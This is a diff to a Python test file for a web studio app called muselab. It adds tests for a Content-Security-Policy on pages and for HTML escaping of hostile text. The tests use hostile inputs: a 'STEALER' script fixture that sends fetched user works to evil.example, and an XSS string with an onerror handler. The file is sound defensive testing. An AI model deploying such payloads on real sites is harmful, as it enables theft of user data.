@@ -1,8 +1,9 @@
-"""What the studio sends to browsers: user files can't run as its pages; and the HTTP faces of import,
-export and lorebooks answer bad or oversized input with a 4xx and leave no temporary files."""
+"""What the studio sends to browsers: user files can't run as its pages, pages run no inline script,
+and the HTTP faces of import, export and lorebooks answer bad or oversized input with a 4xx."""
 
 import io
 import json
+import re
 import zipfile
 
 import pytest
@@ -11,6 +12,7 @@ from fastapi.testclient import TestClient
 from muselab.api.app import create_app
 from muselab.library import archive
 from muselab.library.media import CONTENT_HEADERS
+from muselab.web import PAGE_CSP
 
 STEALER = b"""<!doctype html><script>
 fetch('/v1/works').then(r => r.json()).then(d => fetch('https://evil.example/?' + JSON.stringify(d)));
@@ -132,3 +134,38 @@ def test_lorebook_import_refuses_unreadable_and_oversized_files(client, monkeypa
     big = json.dumps([{"keys": ["a"], "content": "x" * 2000}])
     r = client.post("/v1/write/lorebook/import", files={"file": ("l.json", big, "application/json")})
     assert r.status_code == 413 and r.json()["field"] == "file"
+
+
+# ---- pages ------------------------------------------------------------------------------------------------
+
+INLINE_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
+SCRIPT_TAG = re.compile(r"<script\b([^>]*)>", re.IGNORECASE)
+
+
+def test_every_page_has_the_csp_and_no_inline_script(client, sqlite_studio):
+    from muselab.library.store import NewWork
+
+    work = sqlite_studio.library.add(NewWork(kind="text", media_type="text/plain", data=b"x", title="w"))
+    pages = [p["path"] for p in client.app.state.nav] + ["/jobs", f"/works/{work.id}", "/login"]
+    for path in pages:
+        r = client.get(path)
+        assert r.status_code == 200, (path, r.text[:300])
+        assert r.headers["content-security-policy"] == PAGE_CSP, path
+        assert "script-src 'self';" in PAGE_CSP and "unsafe-inline" not in PAGE_CSP.split("script-src")[1].split(";")[0]
+        assert not INLINE_HANDLER.search(r.text), (path, INLINE_HANDLER.search(r.text).group(0))
+        for attrs in SCRIPT_TAG.findall(r.text):
+            assert 'src="/static/' in attrs or 'type="application/json"' in attrs, (path, attrs)
+
+
+def test_work_page_escapes_hostile_text_and_ids_in_links(client, sqlite_studio):
+    from muselab.library.store import NewWork
+
+    hostile = '"><img src=x onerror=alert(1)>'
+    parent = sqlite_studio.library.add(NewWork(kind="text", media_type="text/plain", data=b"p", title="p"))
+    work = sqlite_studio.library.add(NewWork(kind="image", media_type="image/svg+xml", data=STEALER, title=hostile,
+                                             tags=["<b>tag<b>"], parents=[parent.id], model=hostile))
+    page = client.get(f"/works/{work.id}").text
+    assert hostile not in page and "<b>tag<b>" not in page
+    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
+    assert f"/v1/works/{work.id}/content\"" not in page.split("work-view")[1].split("</div>")[0], \
+        "an SVG is not shown in the page, only offered as a download"
